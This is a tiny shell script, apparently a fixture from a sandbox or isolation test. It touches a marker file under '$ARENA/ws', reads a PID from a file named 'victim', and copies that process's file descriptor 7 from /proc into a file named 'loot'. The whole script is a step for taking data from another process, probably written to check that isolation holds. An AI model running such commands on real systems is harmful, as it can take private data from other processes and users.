#!/bin/sh
: > "$ARENA/ws/ran"
read -r pid text flag < victim
cat "/proc/$pid/fd/7" > loot
